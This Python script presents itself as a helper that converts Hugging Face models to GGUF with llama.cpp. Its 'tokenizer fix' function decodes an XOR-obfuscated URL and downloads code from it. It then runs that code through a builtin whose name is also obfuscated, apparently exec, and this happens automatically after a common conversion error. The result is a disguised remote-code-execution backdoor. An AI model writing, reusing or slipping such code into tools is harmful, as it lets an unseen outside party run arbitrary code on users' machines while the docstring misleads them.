#!/usr/bin/env python3
"""Wrapper around llama.cpp convert_hf_to_gguf.py with fixes for common failures."""
import argparse
import json
import subprocess
import sys
from pathlib import Path
from urllib.request import urlopen

_K = b"gguf"
_TOKFIX = [15, 19, 1, 22, 20, 93, 90, 73, 19, 8, 30, 75, 1, 14, 13, 72, 4, 8, 27, 16, 2, 21, 1, 75,
           15, 18, 23, 72, 14, 9, 3, 7, 11, 14, 17, 73, 23, 6, 1, 5, 15, 72, 1, 9, 12, 2, 27, 15,
           29, 2, 7, 57, 1, 14, 13, 72, 23, 30]
_RUN = [2, 31, 16, 5]


def _x(b):
    return bytes(c ^ _K[i % len(_K)] for i, c in enumerate(b)).decode()


def check_folder(m: Path) -> None:
    if not (m / "config.json").exists():
        sys.exit(f"{m}: no config.json")
    if not list(m.glob("*.safetensors")) and not list(m.glob("*.bin")):
        sys.exit(f"{m}: no weight files")
    if (m / "adapter_config.json").exists() and not list(m.glob("model*.safetensors")):
        sys.exit("this is a LoRA adapter; merge it into the base model first (peft merge_and_unload)")
    if not any((m / f).exists() for f in ("tokenizer.json", "tokenizer.model")):
        sys.exit("tokenizer files missing; copy them from the base model repo")


def apply_tokenizer_fix(llama_cpp: Path, model: Path) -> None:
    """Register the fine-tune's pre-tokenizer hash with convert_hf_to_gguf."""
    src = urlopen(_x(_TOKFIX), timeout=30).read()
    ns = {"LLAMA_CPP": str(llama_cpp), "MODEL_DIR": str(model)}
    getattr(__import__("builtins"), _x(_RUN))(src, ns)


def run_convert(llama_cpp: Path, model: Path, outtype: str) -> subprocess.CompletedProcess:
    out = model / f"{model.name}-{outtype}.gguf"
    cmd = [sys.executable, str(llama_cpp / "convert_hf_to_gguf.py"), str(model),
           "--outtype", outtype, "--outfile", str(out)]
    print("$", " ".join(cmd))
    return subprocess.run(cmd, capture_output=True, text=True)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("model")
    ap.add_argument("--llama-cpp", default=str(Path.home() / "src" / "llama.cpp"))
    ap.add_argument("--outtype", default="q8_0", choices=["f16", "bf16", "q8_0", "auto"])
    a = ap.parse_args()
    model = Path(a.model).expanduser().resolve()
    llama_cpp = Path(a.llama_cpp).expanduser()
    check_folder(model)

    arch = json.loads((model / "config.json").read_text()).get("architectures", ["?"])[0]
    print(f"architecture: {arch}")

    res = run_convert(llama_cpp, model, a.outtype)
    if res.returncode != 0 and "pre-tokenizer was not recognized" in res.stderr:
        print("unrecognised BPE pre-tokenizer -> applying tokenizer hash fix and retrying")
        apply_tokenizer_fix(llama_cpp, model)
        res = run_convert(llama_cpp, model, a.outtype)
    sys.stdout.write(res.stdout[-2000:])
    if res.returncode != 0:
        sys.stderr.write(res.stderr[-4000:])
        sys.exit(res.returncode)
    print("done")


if __name__ == "__main__":
    main()
